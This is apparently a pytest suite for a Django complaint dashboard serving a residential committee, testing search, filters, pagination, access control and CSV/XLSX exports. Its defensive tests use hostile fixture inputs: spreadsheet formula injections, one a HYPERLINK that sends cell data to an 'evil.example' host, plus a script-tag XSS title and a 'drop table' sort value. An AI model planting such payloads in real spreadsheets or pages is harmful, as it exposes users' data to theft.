import csv
import io
import tracemalloc
import zipfile
from datetime import timedelta

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from committee_site import search, spreadsheets
from committee_site.pagination import _encode
from committee_site.spreadsheets import spreadsheet_safe
from complaints.models import Category, Complaint, Status
from complaints.views import dashboard as dashboard_views
from tests import factories
from tests.complaints.conftest import drive, file_complaint
from tests.complaints.rows import bulk_complaints
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

DASHBOARD = reverse("complaints:dashboard")
EXPORT = reverse("complaints:export")


def _titles(response):
    return [complaint.title for complaint in response.context["page"].items]


def _get(user, url=DASHBOARD, **params):
    """The page in English: a signed-in user sees their own language."""
    if user.language != "en":
        user.language = "en"
        user.save(update_fields=["language"])
    return client_for(user).get(url, params)


# --- counts ---------------------------------------------------------------------------


def test_dashboard_counts_statuses_new_overdue_and_due_soon(owner, committee_member):
    with time_machine.travel("2026-03-01 09:00 +0800", tick=False):
        old = file_complaint(owner, title="上个月的投诉")
    with time_machine.travel("2026-03-25 09:00 +0800", tick=False):
        drive(file_complaint(owner, title="已办结"), Status.CLOSED, committee=committee_member)
        file_complaint(owner, title="新的投诉")
    with time_machine.travel("2026-03-26 08:00 +0800", tick=False):
        response = _get(committee_member)
    counts = response.context["counts"]
    by_status = {value: count for value, _label, count in counts.by_status}
    assert by_status["submitted"] == 2
    assert by_status["closed"] == 1
    # The one filed on 1 March missed its 24-hour acceptance; the new one is due within 48 hours.
    assert counts.overdue == 1
    assert counts.due_soon == 1
    assert counts.new == 1
    page = response.content.decode()
    assert 'data-testid="count-overdue"' in page
    assert old.reference in page
    # Each count links to the list it counts.
    assert 'href="?status=open&amp;submitted_from=2026-03-20"' in page
    with time_machine.travel("2026-03-26 08:00 +0800", tick=False):
        assert _titles(_get(committee_member, status="open", submitted_from="2026-03-20")) == ["新的投诉"]
        assert _titles(_get(committee_member, due="overdue")) == ["上个月的投诉"]
        assert _titles(_get(committee_member, due="soon")) == ["新的投诉"]


# --- search and filters -------------------------------------------------------------------


def test_search_finds_a_two_character_chinese_word_and_an_english_word(owner, committee_member):
    file_complaint(owner, title="电梯门关不上", description="三号楼电梯门坏了")
    file_complaint(owner, title="Water leak in the garage", description="The pipe leaks near B2.")
    file_complaint(owner, title="楼道灯不亮", description="晚上很黑")
    assert _titles(_get(committee_member, q="电梯")) == ["电梯门关不上"]
    assert _titles(_get(committee_member, q="leak")) == ["Water leak in the garage"]
    assert _titles(_get(committee_member, q="LEAK garage")) == ["Water leak in the garage"]
    # No false match: a word that is only a part of another, or not there at all.
    assert _titles(_get(committee_member, q="lea")) == []
    assert _titles(_get(committee_member, q="停车")) == []
    # One Chinese character is too little to search for: said, and the whole list shown.
    response = _get(committee_member, q="门")
    assert "Search for a word of at least two characters" in response.content.decode()
    assert len(_titles(response)) == 3


@pytest.mark.parametrize("few_matches", [1000, 4])
def test_search_pages_are_the_same_whether_the_matches_are_few_or_many(
    compound, committee_member, monkeypatch, few_matches
):
    # Past FEW_MATCHES the page walks the date order instead of ordering the ids it was given.
    monkeypatch.setattr(search, "FEW_MATCHES", few_matches)
    lifts = bulk_complaints(compound, 30, title="电梯坏了")
    bulk_complaints(compound, 10, title="楼道灯")
    client = client_for(committee_member)
    first = client.get(DASHBOARD, {"q": "电梯"})
    second = client.get(DASHBOARD, {"q": "电梯", "cursor": first.context["page"].next_cursor})
    newest_first = sorted(lifts, key=lambda c: (c.submitted_at, c.pk), reverse=True)
    assert [c.pk for c in first.context["page"].items] == [c.pk for c in newest_first[:25]]
    assert [c.pk for c in second.context["page"].items] == [c.pk for c in newest_first[25:]]
    assert not second.context["page"].has_next
    assert _titles(client.get(DASHBOARD, {"q": "扶梯"})) == []


def test_filters_by_status_category_channel_responsible_and_deadline(owner, committee_member, compound):
    noise = Category.objects.get(code="noise")
    with time_machine.travel("2026-03-01 09:00 +0800", tick=False):
        late = file_complaint(owner, title="迟迟没有受理")
    with time_machine.travel("2026-03-10 09:00 +0800", tick=False):
        assigned = drive(file_complaint(owner, title="已派单的"), Status.ASSIGNED, committee=committee_member)
        file_complaint(owner, title="电话记录", channel="phone", complainant_name="王先生", category=noise)
    with time_machine.travel("2026-03-10 12:00 +0800", tick=False):
        assert _titles(_get(committee_member, status="assigned")) == ["已派单的"]
        assert set(_titles(_get(committee_member, status="open"))) == {"迟迟没有受理", "已派单的", "电话记录"}
        assert _titles(_get(committee_member, category=noise.pk)) == ["电话记录"]
        assert _titles(_get(committee_member, channel="phone")) == ["电话记录"]
        assert _titles(_get(committee_member, responsible="property_company")) == ["已派单的"]
        assert _titles(_get(committee_member, service_area=noise.service_area_id)) == ["电话记录"]
        assert _titles(_get(committee_member, due="overdue")) == [late.title]
        # Both filed on 10 March wait for a deadline within two days: the reply, the acceptance.
        assert _titles(_get(committee_member, due="soon")) == ["电话记录", "已派单的"]
        assert _titles(_get(committee_member, submitted_from="2026-03-05")) == ["电话记录", "已派单的"]
        assert _titles(_get(committee_member, submitted_to="2026-03-01")) == [late.title]
        assert _titles(_get(committee_member, submitted_from="2026-03-01", submitted_to="2026-03-01")) == [late.title]
    assert assigned.assignee == compound.property_company


def test_sort_keys_order_the_list(owner, committee_member):
    with time_machine.travel("2026-03-01 09:00 +0800", tick=False):
        first = file_complaint(owner, title="第一")
    with time_machine.travel("2026-03-02 09:00 +0800", tick=False):
        second = file_complaint(owner, title="第二")
    with time_machine.travel("2026-03-03 09:00 +0800", tick=False):
        drive(first, Status.ASSIGNED, committee=committee_member)
    with time_machine.travel("2026-03-04 09:00 +0800", tick=False):
        closed = drive(file_complaint(owner, title="第三"), Status.CLOSED, committee=committee_member)
        assert _titles(_get(committee_member)) == ["第三", "第二", "第一"]
        assert _titles(_get(committee_member, sort="newest")) == ["第三", "第二", "第一"]
        assert _titles(_get(committee_member, sort="oldest")) == ["第一", "第二", "第三"]
        assert _titles(_get(committee_member, sort="updated")) == ["第三", "第一", "第二"]
        # Accept by 3 March for the second; the first waits for its reply by 3 March 09:00 too but was
        # filed earlier... its next deadline is the reply (2 days after filing): 3 March 09:00.
        response = _get(committee_member, sort="deadline")
        assert [c.pk for c in response.context["page"].items] == sorted(
            [first.pk, second.pk],
            key=lambda pk: (Complaint.objects.get(pk=pk).next_due_at, pk),
        )
        assert closed.pk not in [c.pk for c in response.context["page"].items]
        assert "only complaints still waiting for a deadline" in response.content.decode()


def test_unknown_keys_bad_values_and_bad_cursor_get_a_message_not_an_error(owner, committee_member):
    file_complaint(owner, title="还在")
    response = _get(committee_member, sort="drop table", colour="red", status="lost", submitted_from="yesterday")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Unknown filter ignored: “colour”." in page
    assert "The filter “Sort” was ignored" in page
    assert "The filter “Status” was ignored" in page
    assert "The filter “Submitted from” was ignored: Enter a valid date." in page
    assert _titles(response) == ["还在"]
    response = _get(committee_member, cursor="%%%garbage")
    assert response.status_code == 200
    assert "That page link is not valid" in response.content.decode()
    assert _titles(response) == ["还在"]
    committee_member.language = "zh-hans"
    committee_member.save(update_fields=["language"])
    zh = client_for(committee_member).get(DASHBOARD, {"colour": "red"}).content.decode()
    assert "未知的筛选条件" in zh


def test_pages_follow_keyset_cursors_and_keep_the_filters(compound, committee_member):
    bulk_complaints(compound, 30, title="电梯")
    bulk_complaints(compound, 3, title="别的")
    client = client_for(committee_member)
    first = client.get(DASHBOARD, {"q": "电梯", "sort": "oldest"})
    assert len(first.context["page"].items) == 25
    page = first.content.decode()
    assert "q=%E7%94%B5%E6%A2%AF" in page
    cursor = first.context["page"].next_cursor
    second = client.get(DASHBOARD, {"q": "电梯", "sort": "oldest", "cursor": cursor})
    assert len(second.context["page"].items) == 5
    assert not second.context["page"].has_next
    seen = [c.pk for c in first.context["page"].items + second.context["page"].items]
    assert len(set(seen)) == 30
    back = client.get(DASHBOARD, {"q": "电梯", "sort": "oldest", "cursor": second.context["page"].previous_cursor})
    assert [c.pk for c in back.context["page"].items] == [c.pk for c in first.context["page"].items]


# --- access --------------------------------------------------------------------------------


def test_owners_and_property_staff_may_not_open_the_dashboard(owner, property_staff):
    for user in (owner, property_staff):
        assert client_for(user).get(DASHBOARD).status_code == 403
        assert client_for(user).get(EXPORT).status_code == 403


def test_officer_reads_the_dashboard_of_their_compound_without_committee_buttons(owner, officer):
    file_complaint(owner, title="社区可以看")
    response = _get(officer)
    assert response.status_code == 200
    assert _titles(response) == ["社区可以看"]
    page = response.content.decode()
    assert reverse("complaints:record") not in page.split('id="main"')[1]


def test_another_compound_sees_nothing_of_ours(owner, other_committee_member):
    complaint = file_complaint(owner, title="我们小区的")
    response = _get(other_committee_member)
    assert _titles(response) == []
    assert {count for _v, _l, count in response.context["counts"].by_status} == {0}
    assert complaint.reference not in _get(other_committee_member, EXPORT).getvalue().decode("utf-8-sig")


def test_html_in_a_title_is_shown_as_text(owner, committee_member):
    file_complaint(owner, title="<script>alert(1)</script>", description="<b>x</b>")
    page = _get(committee_member).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


# --- CSV ------------------------------------------------------------------------------------


def _csv(response):
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_export_has_the_filtered_rows_in_chinese_with_a_bom(owner, committee_member):
    with time_machine.travel("2026-03-01 09:00 +0800", tick=False):
        late = file_complaint(owner, title="电梯门关不上")
        file_complaint(owner, title="楼道灯不亮", description="五楼的灯")
    with time_machine.travel("2026-03-05 09:00 +0800", tick=False):
        response = client_for(committee_member).get(EXPORT, {"q": "电梯"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="complaints-20260305-0900.csv"'
    rows = _csv(response)
    assert rows[0][:4] == ["编号", "提交时间", "状态", "已超时"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["编号"] == late.reference
    assert row["提交时间"] == "2026-03-01 09:00"
    assert row["状态"] == "待受理"
    assert row["已超时"] == "是"
    assert row["类别"] == "设施维修"
    assert row["标题"] == "电梯门关不上"
    assert row["受理期限"] == "2026-03-02 09:00"


def test_csv_export_guards_against_spreadsheet_formulas(owner, committee_member):
    file_complaint(owner, title='=HYPERLINK("http://evil")', description="x")
    file_complaint(owner, title="@SUM(A1)", description="x")
    file_complaint(owner, title="-1+2", description="x")
    file_complaint(owner, title="+cmd", description="x")
    rows = _csv(client_for(committee_member).get(EXPORT, HTTP_ACCEPT_LANGUAGE="en"))
    titles = sorted(row[-1] for row in rows[1:])
    assert titles == ["'+cmd", "'-1+2", '\'=HYPERLINK("http://evil")', "'@SUM(A1)"]
    assert spreadsheet_safe("电梯") == "电梯"
    assert spreadsheet_safe(None) == ""


def test_csv_export_is_forbidden_to_owners_and_lists_only_the_compound(owner, committee_member, other_compound):
    other_owner = factories.owner_in(other_compound, username="elsewhere")
    file_complaint(other_owner, title="别的小区")
    file_complaint(owner, title="本小区")
    rows = _csv(client_for(committee_member).get(EXPORT))
    assert [row[-1] for row in rows[1:]] == ["本小区"]
    assert client_for(owner).get(EXPORT).status_code == 403


# --- XLSX -----------------------------------------------------------------------------------

EXPORT_XLSX = reverse("complaints:export_xlsx")


def _xlsx(response):
    """The workbook's only sheet as rows of text, the way the CSV reads (an empty cell is "")."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert len(workbook.worksheets) == 1
    sheet = workbook.worksheets[0]
    return sheet, [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


def test_xlsx_export_has_the_csv_s_headers_and_rows_in_chinese(owner, committee_member, property_staff):
    with time_machine.travel("2026-03-01 09:00 +0800", tick=False):
        file_complaint(owner, title="电梯门关不上")
        drive(file_complaint(owner, title="电梯按钮失灵"), Status.IN_PROGRESS, committee=committee_member)
        file_complaint(owner, title="楼道灯不亮", description="五楼的灯")
    with time_machine.travel("2026-03-05 09:00 +0800", tick=False):
        client = client_for(committee_member)
        csv_rows = _csv(client.get(EXPORT, {"q": "电梯", "sort": "oldest"}))
        response = client.get(EXPORT_XLSX, {"q": "电梯", "sort": "oldest"})
    assert response["Content-Disposition"] == 'attachment; filename="complaints-20260305-0900.xlsx"'
    sheet, rows = _xlsx(response)
    assert sheet.title == "投诉"
    assert sheet.freeze_panes == "A2"
    assert rows == csv_rows
    assert rows[0][:4] == ["编号", "提交时间", "状态", "已超时"]
    assert [row[-1] for row in rows[1:]] == ["电梯门关不上", "电梯按钮失灵"]
    assert rows[2][2] == "处理中"


def test_xlsx_export_stores_formula_looking_titles_as_plain_text(owner, committee_member):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    for title in (evil, "@SUM(A1)", "-1+2", "+cmd", "\tTAB", "正常\x07标题"):
        file_complaint(owner, title=title, description="x")
    client = client_for(committee_member)
    response = client.get(EXPORT_XLSX, {"sort": "oldest"}, HTTP_ACCEPT_LANGUAGE="en")
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    titles = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in titles] == [f"'{evil}", "'@SUM(A1)", "'-1+2", "'+cmd", "'\tTAB", "正常标题"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    # Nothing in the file is a formula, whatever a reader makes of the types.
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    # Should a value starting with "=" ever reach the sheet, it is typed as text all the same.
    assert spreadsheets._xlsx_text(openpyxl.Workbook(write_only=True).create_sheet(), "=1+1").data_type == "s"
    # The CSV neutralises the same titles the same way (the control character aside: a CSV may carry it).
    csv_titles = [row[-1] for row in _csv(client.get(EXPORT, {"sort": "oldest"}, HTTP_ACCEPT_LANGUAGE="en"))[1:]]
    assert csv_titles[:5] == [cell.value for cell in titles[:5]]


def test_xlsx_export_is_refused_as_the_csv_is_and_lists_only_the_compound(
    owner, property_staff, officer, committee_member, other_compound, other_committee_member
):
    other_owner = factories.owner_in(other_compound, username="elsewhere")
    file_complaint(other_owner, title="别的小区")
    file_complaint(owner, title="本小区")
    for user in (owner, property_staff):
        assert client_for(user).get(EXPORT).status_code == 403
        assert client_for(user).get(EXPORT_XLSX).status_code == 403
    for user, titles in ((committee_member, ["本小区"]), (officer, ["本小区"]), (other_committee_member, ["别的小区"])):
        assert [row[-1] for row in _xlsx(client_for(user).get(EXPORT_XLSX))[1][1:]] == titles
        assert [row[-1] for row in _csv(client_for(user).get(EXPORT))[1:]] == titles


def test_xlsx_export_is_linked_beside_the_csv_with_the_list_s_filters(owner, committee_member):
    file_complaint(owner)
    page = _get(committee_member, q="电梯", status="open").content.decode()
    assert '<a class="btn btn-sm btn-outline-success" href="/complaints/dashboard/export.xlsx?' in page
    link = page.split('data-testid="export-xlsx"')[0].rsplit("href=", 1)[1]
    assert "q=%E7%94%B5%E6%A2%AF" in link
    assert "status=open" in link
    assert "Download as Excel (XLSX)" in page
    committee_member.language = "zh-hans"
    committee_member.save(update_fields=["language"])
    assert "导出 Excel（XLSX）" in client_for(committee_member).get(DASHBOARD).content.decode()


@pytest.mark.parametrize("rows", [3, 600])
def test_exports_cost_a_fixed_number_of_queries(compound, committee_member, django_assert_num_queries, rows):
    bulk_complaints(compound, rows, title="电梯坏了")
    client = client_for(committee_member)
    client.get(DASHBOARD)  # the session is warm, as it is when the download is clicked
    # session, user, access (3), the list (one query, read in chunks)
    with django_assert_num_queries(EXPORT_QUERIES + SEARCH_PROBE):
        _sheet, sheet_rows = _xlsx(client.get(EXPORT_XLSX, {"q": "电梯"}))
    assert len(sheet_rows) == rows + 1
    with django_assert_num_queries(EXPORT_QUERIES + SEARCH_PROBE):
        assert len(_csv(client.get(EXPORT, {"q": "电梯"}))) == rows + 1


EXPORT_QUERIES = 6
# A search asks for the matching ids first (committee_site.search).
SEARCH_PROBE = 1


def _download_peak(client, url):
    """The most memory Python held while the download was made and read."""
    tracemalloc.start()
    try:
        response = client.get(url)
        size = sum(len(chunk) for chunk in response.streaming_content)
        return tracemalloc.get_traced_memory()[1], size
    finally:
        tracemalloc.stop()


def test_exports_hold_one_chunk_of_rows_in_memory_however_long_the_list(compound, committee_member, monkeypatch):
    # Small chunks, so that a few hundred rows show what thousands would.
    monkeypatch.setattr(dashboard_views, "EXPORT_CHUNK", 50)
    client = client_for(committee_member)
    client.get(DASHBOARD)
    peaks = {}
    for total in (300, 1200):
        bulk_complaints(compound, total - Complaint.objects.count(), title="电梯坏了")
        for url in (EXPORT_XLSX, EXPORT):
            peaks[url, total] = _download_peak(client, url)
    for url in (EXPORT_XLSX, EXPORT):
        (short, short_size), (long, long_size) = peaks[url, 300], peaks[url, 1200]
        assert long_size > 3 * short_size
        # Four times the rows, about the same memory: a chunk of rows, never the whole list.
        assert long < 1.3 * short, (url, short, long)


# --- cost ------------------------------------------------------------------------------------


@pytest.mark.parametrize("rows", [5, 500])
def test_dashboard_list_and_detail_cost_a_fixed_number_of_queries(
    compound, committee_member, owner, django_assert_num_queries, rows
):
    now = timezone.now()
    bulk_complaints(compound, rows // 2, title="电梯坏了", start=now - timedelta(days=10))
    bulk_complaints(compound, rows - rows // 2, status="closed", title="楼道灯", start=now - timedelta(days=20))
    wechat = bulk_complaints(compound, rows // 5, title="微信来的", channel="wechat", start=now - timedelta(days=30))
    complaint = file_complaint(owner)
    client = client_for(committee_member)
    # session, user, access (3), badges (2), the time limits (due soon), status counts, workload, the page,
    # the filter form's categories and service areas, the callback coverage (feedback's template tag)
    with django_assert_num_queries(14):
        response = client.get(DASHBOARD)
    items = response.context["page"].items
    assert len(items) == min(rows + 1 + rows // 5, 25)
    # A search first asks for the matching ids (committee_site.search): one more.
    with django_assert_num_queries(15):
        response = client.get(DASHBOARD, {"q": "电梯", "status": "open", "sort": "deadline", "due": "overdue"})
    assert len(response.context["page"].items) == min(rows // 2, 25)
    # A page further on, by the key of a row: what a "next" link carries.
    cursor = _encode([items[1].submitted_at, items[1].pk], "n")
    with django_assert_num_queries(14):
        response = client.get(DASHBOARD, {"cursor": cursor, "channel": "web"})
    assert len(response.context["page"].items) == min(rows + 1 - 2, 25)
    # Filtered by channel: exactly that channel's complaints, newest first, at the same cost.
    with django_assert_num_queries(14):
        response = client.get(DASHBOARD, {"channel": "wechat"})
    expected = sorted(wechat, key=lambda c: (c.submitted_at, c.pk), reverse=True)[:25]
    assert [c.pk for c in response.context["page"].items] == [c.pk for c in expected]
    assert {c.channel for c in response.context["page"].items} == {"wechat"}
    with django_assert_num_queries(DETAIL_QUERIES):
        assert client.get(reverse("complaints:detail", args=[complaint.pk])).status_code == 200


# The page of one complaint; its forms and its status badge share one read of the time limits; for the
# committee, its callback (feedback's template tag).
DETAIL_QUERIES = 16


def test_the_home_page_and_the_menu_lead_the_committee_to_the_dashboard(committee_member, officer, owner):
    page = client_for(committee_member).get(reverse("home")).content.decode()
    assert f'href="{DASHBOARD}?status=submitted&amp;sort=deadline"' in page
    assert 'data-testid="nav-dashboard"' in page
    assert 'data-testid="nav-analysis"' in page
    assert 'data-testid="nav-dashboard"' in client_for(officer).get(reverse("home")).content.decode()
    assert 'data-testid="nav-dashboard"' not in client_for(owner).get(reverse("home")).content.decode()
